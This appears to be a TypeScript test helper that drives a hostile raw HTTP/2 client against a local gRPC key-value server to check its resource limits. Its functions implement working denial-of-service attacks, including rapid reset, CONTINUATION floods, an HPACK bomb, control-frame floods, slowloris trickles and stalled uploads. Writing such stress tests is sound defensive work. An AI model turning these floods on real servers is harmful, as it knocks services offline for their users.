/**
 * A hostile HTTP/2 client for the resource-limit tests: raw frames (RFC 9113 §4.1)
 * written to a `node:net` socket, no HTTP/2 library in between, so it can send what
 * no well-behaved client would: thousands of streams it never finishes, resets as
 * fast as it opens, header blocks that never end, an HPACK table entry referenced a
 * thousand times, floods of SETTINGS, PING and WINDOW_UPDATE, a gRPC length prefix
 * of 4 GiB followed by a trickle, and headers sent a few bytes at a time.
 *
 * Each attack runs for a bounded time (`durationMs`) and reports what it did and
 * what the server answered (GOAWAYs and RST_STREAMs seen, connections the server
 * closed), so a test can say what happened. It reads every byte the server sends
 * (and drops it) except where an attack means to stop reading.
 *
 * HPACK (RFC 7541) is hand-encoded: indexed fields from the static table and
 * literals without Huffman coding, enough for gRPC request headers.
 *
 * @module
 */

import { Buffer } from "node:buffer";
import * as net from "node:net";

// -----------------------------------------------------------------------------
// Frames (RFC 9113 §6).

/** Frame types. */
export const FRAME = {
  DATA: 0x0,
  HEADERS: 0x1,
  RST_STREAM: 0x3,
  SETTINGS: 0x4,
  PING: 0x6,
  GOAWAY: 0x7,
  WINDOW_UPDATE: 0x8,
  CONTINUATION: 0x9,
} as const;

/** Frame flags. */
export const FLAG = { END_STREAM: 0x1, ACK: 0x1, END_HEADERS: 0x4 } as const;

/** Error codes (§7). */
export const ERROR = {
  NO_ERROR: 0x0,
  REFUSED_STREAM: 0x7,
  CANCEL: 0x8,
  ENHANCE_YOUR_CALM: 0xb,
} as const;

/** The client connection preface (§3.4). */
export const PREFACE: Buffer = Buffer.from("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n");

/** One frame: a 9-byte header and its payload. */
export function frame(type: number, flags: number, streamId: number, payload: Uint8Array): Buffer {
  const b = Buffer.alloc(9 + payload.length);
  b.writeUIntBE(payload.length, 0, 3);
  b[3] = type;
  b[4] = flags;
  b.writeUInt32BE(streamId & 0x7fffffff, 5);
  b.set(payload, 9);
  return b;
}

/** A frame header alone, announcing `length` bytes that may never come. */
export function frameHeader(type: number, flags: number, streamId: number, length: number): Buffer {
  const b = Buffer.alloc(9);
  b.writeUIntBE(length, 0, 3);
  b[3] = type;
  b[4] = flags;
  b.writeUInt32BE(streamId & 0x7fffffff, 5);
  return b;
}

/** SETTINGS with the given (id, value) pairs; empty by default. */
export function settings(pairs: readonly [number, number][] = []): Buffer {
  const p = Buffer.alloc(6 * pairs.length);
  pairs.forEach(([id, value], i) => {
    p.writeUInt16BE(id, 6 * i);
    p.writeUInt32BE(value, 6 * i + 2);
  });
  return frame(FRAME.SETTINGS, 0, 0, p);
}

/** RST_STREAM with `code`. */
export function rstStream(streamId: number, code: number): Buffer {
  const p = Buffer.alloc(4);
  p.writeUInt32BE(code);
  return frame(FRAME.RST_STREAM, 0, streamId, p);
}

/** WINDOW_UPDATE of `increment` on `streamId` (0: the connection). */
export function windowUpdate(streamId: number, increment: number): Buffer {
  const p = Buffer.alloc(4);
  p.writeUInt32BE(increment);
  return frame(FRAME.WINDOW_UPDATE, 0, streamId, p);
}

/** PING with 8 bytes of opaque data. */
export function ping(n: number): Buffer {
  const p = Buffer.alloc(8);
  p.writeUInt32BE(n >>> 0, 4);
  return frame(FRAME.PING, 0, 0, p);
}

// -----------------------------------------------------------------------------
// HPACK (RFC 7541), no Huffman.

/** An integer with an N-bit prefix (§5.1); `first` holds the pattern bits above the prefix. */
function hpackInt(value: number, prefixBits: number, first: number): number[] {
  const max = (1 << prefixBits) - 1;
  if (value < max) return [first | value];
  const out = [first | max];
  let v = value - max;
  while (v >= 128) {
    out.push((v % 128) + 128);
    v = Math.floor(v / 128);
  }
  out.push(v);
  return out;
}

function hpackString(s: string | Uint8Array): number[] {
  const bytes = typeof s === "string" ? Buffer.from(s) : s;
  return [...hpackInt(bytes.length, 7, 0), ...bytes];
}

/** Indexed header field (§6.1): a static or dynamic table entry by index. */
export function hpackIndexed(index: number): number[] {
  return hpackInt(index, 7, 0x80);
}

/** Literal without indexing (§6.2.2), name by static index or new. */
export function hpackLiteral(name: number | string, value: string | Uint8Array): number[] {
  if (typeof name === "number") return [...hpackInt(name, 4, 0x00), ...hpackString(value)];
  return [0x00, ...hpackString(name), ...hpackString(value)];
}

/** Literal with incremental indexing (§6.2.1), new name: it enters the dynamic table. */
export function hpackIndexedLiteral(name: string, value: string | Uint8Array): number[] {
  return [0x40, ...hpackString(name), ...hpackString(value)];
}

/** The header block of a gRPC request to `path`. */
export function grpcRequestBlock(path: string, authority = "localhost"): Buffer {
  return Buffer.from([
    ...hpackIndexed(3), // :method POST
    ...hpackIndexed(6), // :scheme http
    ...hpackLiteral(4, path), // :path
    ...hpackLiteral(1, authority), // :authority
    ...hpackLiteral(31, "application/grpc"), // content-type
    ...hpackLiteral("te", "trailers"),
  ]);
}

/** The path every attack's requests go to: a KV Put, which must read a body. */
export const PUT_PATH = "/raftkv.v1.KVService/Put";

/** HEADERS opening stream `id` to `path`, END_HEADERS set, END_STREAM not. */
export function openStream(id: number, block: Uint8Array = grpcRequestBlock(PUT_PATH)): Buffer {
  return frame(FRAME.HEADERS, FLAG.END_HEADERS, id, block);
}

// -----------------------------------------------------------------------------
// Connections.

/** What the server did to one attacking connection. */
export interface ConnStats {
  /** Bytes the server sent. */
  bytesIn: number;
  /** GOAWAY frames seen, with their error codes. */
  goaways: number[];
  /** RST_STREAM frames seen, by error code. */
  resets: Map<number, number>;
  /** The server's SETTINGS (the first non-ACK frame), as id → value. */
  serverSettings: Map<number, number> | undefined;
  /** Whether the socket closed, and who closed it. */
  closedBy: "server" | "us" | undefined;
  /** Streams the server ended (a HEADERS or DATA frame with END_STREAM). */
  ended: Set<number>;
}

/**
 * One raw HTTP/2 connection. Parses what comes back just enough to count GOAWAYs,
 * RST_STREAMs and read the server's SETTINGS; writes only what it is told to.
 */
export class RawH2Conn {
  readonly socket: net.Socket;
  readonly stats: ConnStats = {
    bytesIn: 0,
    goaways: [],
    resets: new Map(),
    serverSettings: undefined,
    closedBy: undefined,
    ended: new Set(),
  };
  readonly connected: Promise<void>;
  readonly closed: Promise<void>;
  #buf: Buffer = Buffer.alloc(0);
  #destroyedByUs = false;
  /** Flow control (RFC 9113 §6.9): what the server lets us send, on the connection and per stream. */
  #connWindow = 65_535;
  #initialStreamWindow = 65_535;
  readonly #streamWindows = new Map<number, number>();
  #windowWaiters: (() => void)[] = [];

  /**
   * Connects to `host:port`; `read: false` never reads what the server sends;
   * `localAddress` picks the source address (any of 127.0.0.0/8 on Linux), to
   * come from another address than the test's other clients.
   */
  constructor(
    port: number,
    host = "127.0.0.1",
    opts: { read?: boolean; localAddress?: string } = {},
  ) {
    this.socket = net.connect({ host, port, localAddress: opts.localAddress });
    this.socket.on("error", () => {});
    this.connected = new Promise<void>((resolve, reject) => {
      this.socket.once("connect", () => resolve());
      this.socket.once("close", () => reject(new Error("closed before connecting")));
    });
    this.connected.catch(() => {});
    this.closed = new Promise<void>((resolve) =>
      this.socket.once("close", () => {
        this.stats.closedBy ??= this.#destroyedByUs ? "us" : "server";
        resolve();
      })
    );
    if (opts.read === false) this.socket.pause();
    else this.socket.on("data", (chunk: Buffer) => this.#onData(chunk));
    this.socket.on("end", () => this.socket.destroy());
    this.socket.once("close", () => this.#wakeWindowWaiters());
  }

  #wakeWindowWaiters(): void {
    const w = this.#windowWaiters;
    this.#windowWaiters = [];
    for (const f of w) f();
  }

  /**
   * Sends `bytes` as DATA on stream `id` (END_STREAM never set), within the flow
   * control windows the server grants, waiting for WINDOW_UPDATEs as needed, until
   * all is sent, the connection closes or `live()` turns false. Returns bytes sent.
   */
  async sendData(id: number, bytes: Uint8Array, live: () => boolean): Promise<number> {
    let off = 0;
    while (off < bytes.length && live()) {
      const window = Math.min(
        this.#connWindow,
        this.#streamWindows.get(id) ?? this.#initialStreamWindow,
      );
      if (window <= 0) {
        await new Promise<void>((resolve) => {
          const timer = setTimeout(resolve, 100);
          this.#windowWaiters.push(() => {
            clearTimeout(timer);
            resolve();
          });
        });
        continue;
      }
      const n = Math.min(window, 16_384, bytes.length - off);
      this.#connWindow -= n;
      this.#streamWindows.set(id, (this.#streamWindows.get(id) ?? this.#initialStreamWindow) - n);
      await this.write(frame(FRAME.DATA, 0, id, bytes.subarray(off, off + n)));
      off += n;
    }
    return off;
  }

  #onData(chunk: Buffer): void {
    this.stats.bytesIn += chunk.length;
    this.#buf = this.#buf.length === 0 ? chunk : Buffer.concat([this.#buf, chunk]);
    while (this.#buf.length >= 9) {
      const len = this.#buf.readUIntBE(0, 3);
      if (this.#buf.length < 9 + len) break;
      const type = this.#buf[3]!;
      const flags = this.#buf[4]!;
      const payload = this.#buf.subarray(9, 9 + len);
      if (type === FRAME.GOAWAY && len >= 8) this.stats.goaways.push(payload.readUInt32BE(4));
      if ((type === FRAME.HEADERS || type === FRAME.DATA) && (flags & FLAG.END_STREAM) !== 0) {
        this.stats.ended.add(this.#buf.readUInt32BE(5) & 0x7fffffff);
      }
      if (type === FRAME.WINDOW_UPDATE && len >= 4) {
        const id = this.#buf.readUInt32BE(5) & 0x7fffffff;
        const inc = payload.readUInt32BE(0) & 0x7fffffff;
        if (id === 0) this.#connWindow += inc;
        else {
          this.#streamWindows.set(
            id,
            (this.#streamWindows.get(id) ?? this.#initialStreamWindow) + inc,
          );
        }
        this.#wakeWindowWaiters();
      }
      if (type === FRAME.RST_STREAM && len >= 4) {
        const code = payload.readUInt32BE(0);
        this.stats.resets.set(code, (this.stats.resets.get(code) ?? 0) + 1);
      }
      if (
        type === FRAME.SETTINGS && (flags & FLAG.ACK) === 0 &&
        this.stats.serverSettings === undefined
      ) {
        const s = new Map<number, number>();
        for (let i = 0; i + 6 <= len; i += 6) {
          s.set(payload.readUInt16BE(i), payload.readUInt32BE(i + 2));
        }
        this.stats.serverSettings = s;
        const initial = s.get(0x4);
        if (initial !== undefined) this.#initialStreamWindow = initial;
      }
      this.#buf = this.#buf.subarray(9 + len);
    }
  }

  /** True until the socket closes. */
  get open(): boolean {
    return !this.socket.destroyed;
  }

  /**
   * Writes `bytes`; resolves at once if the socket's buffer has room, else when it
   * drains (or closes), so a flood never buffers more than the kernel takes.
   */
  write(bytes: Uint8Array): Promise<void> {
    if (!this.open) return Promise.resolve();
    if (this.socket.write(bytes)) return Promise.resolve();
    return new Promise<void>((resolve) => {
      const done = () => {
        this.socket.off("drain", done);
        this.socket.off("close", done);
        resolve();
      };
      this.socket.once("drain", done);
      this.socket.once("close", done);
    });
  }

  /** Writes the preface and an empty SETTINGS, and ACKs nothing (the server needs no ACK to serve). */
  async start(): Promise<void> {
    await this.connected;
    await this.write(Buffer.concat([PREFACE, settings()]));
  }

  /** Destroys the socket and waits until it is closed. */
  async close(): Promise<void> {
    this.#destroyedByUs = true;
    this.socket.destroy();
    await this.closed;
  }
}

/** Resolves after `ms`; paces the attacks' trickles, never a wait for a condition. */
function pause(ms: number): Promise<void> {
  return new Promise((r) => setTimeout(r, ms));
}

/** A summary of one attack, for the test output. */
export interface AttackReport {
  /** Frames or bytes sent, in the attack's own unit (`unit`). */
  sent: number;
  unit: string;
  connections: number;
  /** Connections the server closed (GOAWAY or a closed socket). */
  closedByServer: number;
  goaways: number;
  /** The error codes of the GOAWAYs, distinct, ascending. */
  goawayCodes: number[];
  resets: Map<number, number>;
  /** The first connection's view of the server's SETTINGS. */
  serverSettings: Map<number, number> | undefined;
}

function report(conns: readonly RawH2Conn[], sent: number, unit: string): AttackReport {
  const resets = new Map<number, number>();
  for (const c of conns) {
    for (const [k, v] of c.stats.resets) resets.set(k, (resets.get(k) ?? 0) + v);
  }
  return {
    sent,
    unit,
    connections: conns.length,
    closedByServer: conns.filter((c) => c.stats.closedBy === "server" || c.stats.goaways.length > 0)
      .length,
    goaways: conns.reduce((n, c) => n + c.stats.goaways.length, 0),
    goawayCodes: [...new Set(conns.flatMap((c) => c.stats.goaways))].sort((a, b) => a - b),
    resets,
    serverSettings: conns[0]?.stats.serverSettings,
  };
}

/** One line for the test output. */
export function describeReport(r: AttackReport): string {
  const resets = [...r.resets].map(([code, n]) => `${n}×code ${code}`).join(", ") || "none";
  return `${r.sent} ${r.unit} on ${r.connections} connection(s); ${r.closedByServer} closed by ` +
    `the server; ${r.goaways} GOAWAY${
      r.goawayCodes.length > 0 ? ` (code ${r.goawayCodes.join(", ")})` : ""
    }; RST_STREAM: ${resets}`;
}

/** Options common to every attack. */
export interface AttackOptions {
  port: number;
  /** How long the attack runs. */
  durationMs: number;
  /** Connections to attack on (each its own socket); 1 by default. */
  connections?: number;
  /** Stop opening streams on a connection after this many; unbounded by default. */
  maxStreamsPerConnection?: number;
}

/**
 * Runs `perConn` on `connections` fresh connections until `durationMs` passes or
 * every connection is closed, then closes them all. `perConn` loops while
 * `live()` holds and returns how much it sent.
 */
async function onConnections(
  opts: AttackOptions,
  unit: string,
  perConn: (c: RawH2Conn, live: () => boolean) => Promise<number>,
  connOpts: { read?: boolean } = {},
): Promise<AttackReport> {
  const deadline = Date.now() + opts.durationMs;
  const conns = Array.from(
    { length: opts.connections ?? 1 },
    () => new RawH2Conn(opts.port, "127.0.0.1", connOpts),
  );
  let sent = 0;
  await Promise.all(conns.map(async (c) => {
    try {
      await c.start();
    } catch {
      return; // refused at once: nothing to attack on
    }
    const n = await perConn(c, () => c.open && Date.now() < deadline);
    sent += n;
  }));
  const r = report(conns, sent, unit);
  await Promise.all(conns.map((c) => c.close()));
  return r;
}

/** Writes frames in batches of `batch`, yielding to the event loop between batches. */
async function flood(
  c: RawH2Conn,
  live: () => boolean,
  next: (i: number) => Buffer | undefined,
  batch = 100,
): Promise<number> {
  let i = 0;
  while (live()) {
    const parts: Buffer[] = [];
    for (let k = 0; k < batch; k++) {
      const f = next(i);
      if (f === undefined) return i;
      parts.push(f);
      i++;
    }
    await c.write(Buffer.concat(parts));
    await pause(0);
  }
  return i;
}

/**
 * Unfinished streams: HEADERS of gRPC Puts (no END_STREAM), never a body, never
 * closed; as many as the time allows (or `maxStreamsPerConnection`) per connection.
 */
export function unfinishedStreams(opts: AttackOptions): Promise<AttackReport> {
  const block = grpcRequestBlock(PUT_PATH);
  const max = opts.maxStreamsPerConnection ?? Infinity;
  return onConnections(
    opts,
    "unfinished streams",
    (c, live) => flood(c, live, (i) => i < max ? openStream(2 * i + 1, block) : undefined),
  );
}

/** Rapid reset (CVE-2023-44487): HEADERS then RST_STREAM(CANCEL) at once, over and over. */
export function rapidReset(opts: AttackOptions): Promise<AttackReport> {
  const block = grpcRequestBlock(PUT_PATH);
  return onConnections(
    opts,
    "streams opened and reset",
    (c, live) =>
      flood(c, live, (i) => {
        const id = 2 * i + 1;
        if (id > 0x7fffffff) return undefined;
        return Buffer.concat([openStream(id, block), rstStream(id, ERROR.CANCEL)]);
      }),
  );
}

/**
 * CONTINUATION flood (CVE-2024-27316 and kin): one HEADERS without END_HEADERS, then
 * endless CONTINUATION frames, each carrying another new header field.
 */
export function continuationFlood(opts: AttackOptions): Promise<AttackReport> {
  const junk = Buffer.from(hpackLiteral(`x-junk`, "j".repeat(1000)));
  return onConnections(opts, "CONTINUATION frames", async (c, live) => {
    await c.write(frame(FRAME.HEADERS, 0, 1, grpcRequestBlock(PUT_PATH)));
    return await flood(c, live, () => frame(FRAME.CONTINUATION, 0, 1, junk), 50);
  });
}

/**
 * HPACK bomb: a 4 KiB header value enters the dynamic table once, and each header
 * block then references it (one byte each) thousands of times: 16 KiB on the wire
 * asks for 64 MiB of decoded headers per block.
 */
export function hpackBomb(opts: AttackOptions): Promise<AttackReport> {
  return onConnections(opts, "header blocks", async (c, live) => {
    const big = Buffer.from(hpackIndexedLiteral("x-bomb", "b".repeat(4000)));
    const refs = Buffer.from(Array.from({ length: 16_000 }, () => hpackIndexed(62)).flat());
    let id = 1;
    await c.write(openStream(id, Buffer.concat([grpcRequestBlock(PUT_PATH), big])));
    return 1 + await flood(c, live, () => {
      id += 2;
      // One frame's payload is at most 16 KiB by default (§4.2): split into CONTINUATIONs.
      const block = Buffer.concat([grpcRequestBlock(PUT_PATH), refs]);
      const parts: Buffer[] = [];
      for (let off = 0; off < block.length; off += 16_000) {
        const end = off + 16_000 >= block.length;
        const type = off === 0 ? FRAME.HEADERS : FRAME.CONTINUATION;
        parts.push(frame(type, end ? FLAG.END_HEADERS : 0, id, block.subarray(off, off + 16_000)));
      }
      return Buffer.concat(parts);
    }, 4);
  });
}

/**
 * SETTINGS, PING or WINDOW_UPDATE flood, while never reading: every SETTINGS and
 * PING asks for an ACK the server must queue.
 */
export function controlFlood(
  kind: "settings" | "ping" | "window-update",
  opts: AttackOptions,
): Promise<AttackReport> {
  const make = kind === "settings"
    ? () => settings([[0x4, 65535], [0x2, 0]])
    : kind === "ping"
    ? (i: number) => ping(i)
    : () => windowUpdate(0, 1);
  return onConnections(
    opts,
    `${kind} frames`,
    (c, live) => flood(c, live, make, 1000),
    { read: false },
  );
}

/**
 * A huge gRPC length prefix (4 GiB - 1), then a trickle: on many streams, one
 * DATA frame with the prefix and then one byte per stream every `trickleMs`.
 */
export function hugePrefixTrickle(
  opts: AttackOptions & { streams?: number; trickleMs?: number },
): Promise<AttackReport> {
  const streams = opts.streams ?? 50;
  const block = grpcRequestBlock(PUT_PATH);
  const prefix = Buffer.from([0, 0xff, 0xff, 0xff, 0xff]);
  return onConnections(opts, "DATA frames", async (c, live) => {
    let n = 0;
    const ids = Array.from({ length: streams }, (_, i) => 2 * i + 1);
    await c.write(
      Buffer.concat(ids.flatMap((id) => [openStream(id, block), frame(0, 0, id, prefix)])),
    );
    n += streams;
    while (live()) {
      await pause(opts.trickleMs ?? 100);
      await c.write(Buffer.concat(ids.map((id) => frame(FRAME.DATA, 0, id, Buffer.from([0x61])))));
      n += streams;
    }
    return n;
  });
}

/**
 * Slowloris: on each connection, a HEADERS frame header announcing a header block,
 * then the block a few bytes at a time, never completing it before the time is up.
 */
export function slowHeaders(
  opts: AttackOptions & { trickleMs?: number },
): Promise<AttackReport> {
  const block = Buffer.concat([
    grpcRequestBlock(PUT_PATH),
    Buffer.from(hpackLiteral("x-slow", "s".repeat(16_000))),
  ]);
  return onConnections(opts, "bytes of headers", async (c, live) => {
    await c.write(frameHeader(FRAME.HEADERS, FLAG.END_HEADERS, 1, block.length));
    let off = 0;
    while (live() && off < block.length - 1) {
      await c.write(block.subarray(off, off + 4));
      off += 4;
      await pause(opts.trickleMs ?? 50);
    }
    return off;
  });
}

/**
 * Big unfinished uploads: on each connection, `streams` Puts whose gRPC prefix
 * declares a message just under the node's 4 MiB request limit, then as much of
 * it as flow control allows, never the last bytes and never END_STREAM.
 */
export function bigUnfinishedBodies(
  opts: AttackOptions & { streams?: number },
): Promise<AttackReport> {
  const streams = opts.streams ?? 50;
  const declared = 4 * 1024 * 1024 - 1024;
  const body = Buffer.alloc(declared - 1);
  const block = grpcRequestBlock(PUT_PATH);
  return onConnections(opts, "body bytes", async (c, live) => {
    const ids = Array.from({ length: streams }, (_, i) => 2 * i + 1);
    const prefix = Buffer.alloc(5);
    prefix.writeUInt32BE(declared, 1);
    await c.write(Buffer.concat(ids.flatMap((id) => [openStream(id, block)])));
    const sent = await Promise.all(ids.map(async (id) => {
      await c.sendData(id, prefix, live);
      return 5 + await c.sendData(id, body, live);
    }));
    return sent.reduce((a, b) => a + b, 0);
  });
}

/** A protobuf length-delimited field (wire type 2). */
function pbBytes(field: number, bytes: Uint8Array): Buffer {
  return Buffer.from([...hpackVarint((field << 3) | 2), ...hpackVarint(bytes.length), ...bytes]);
}

/** A protobuf varint (the same base-128 groups as HPACK's integer continuation). */
function hpackVarint(v: number): number[] {
  const out: number[] = [];
  while (v >= 128) {
    out.push((v % 128) + 128);
    v = Math.floor(v / 128);
  }
  out.push(v);
  return out;
}

/** A gRPC message frame: flag 0 and a 4-byte length. */
function grpcMessage(payload: Uint8Array): Buffer {
  const b = Buffer.alloc(5 + payload.length);
  b.writeUInt32BE(payload.length, 1);
  b.set(payload, 5);
  return b;
}

/**
 * Unread responses: Puts a value of `valueBytes` under a key (a complete call),
 * then on each connection asks for it on `streams` streams and never reads: no
 * WINDOW_UPDATE is ever sent, so the node can send 64 KiB per connection and
 * must hold the rest of every answer.
 */
export function unreadResponses(
  opts: AttackOptions & { streams?: number; valueBytes?: number },
): Promise<AttackReport> {
  const streams = opts.streams ?? 100;
  const key = Buffer.from("issue15-unread");
  const value = Buffer.alloc(opts.valueBytes ?? 1024 * 1024, 0x76);
  const getBlock = grpcRequestBlock("/raftkv.v1.KVService/Get");
  const get = grpcMessage(pbBytes(1, key));
  let put: Promise<void> | undefined;
  return onConnections(opts, "Gets never read", async (c, live) => {
    // One connection writes the value first (its answer is read: the connection
    // reads what comes, it only never opens the flow control window).
    put ??= (async () => {
      const setup = new RawH2Conn(opts.port);
      try {
        await setup.start();
        await setup.write(openStream(1));
        const body = grpcMessage(Buffer.concat([pbBytes(1, key), pbBytes(2, value)]));
        await setup.sendData(1, body, () => setup.open);
        await setup.write(frame(FRAME.DATA, FLAG.END_STREAM, 1, new Uint8Array(0)));
        const deadline = Date.now() + 10_000;
        while (!setup.stats.ended.has(1) && setup.open && Date.now() < deadline) await pause(20);
      } finally {
        await setup.close();
      }
    })();
    await put;
    let n = 0;
    for (let id = 1; n < streams && live(); id += 2, n++) {
      await c.write(Buffer.concat([
        openStream(id, getBlock),
        frame(FRAME.DATA, FLAG.END_STREAM, id, get),
      ]));
    }
    while (live()) await pause(50);
    return n;
  });
}
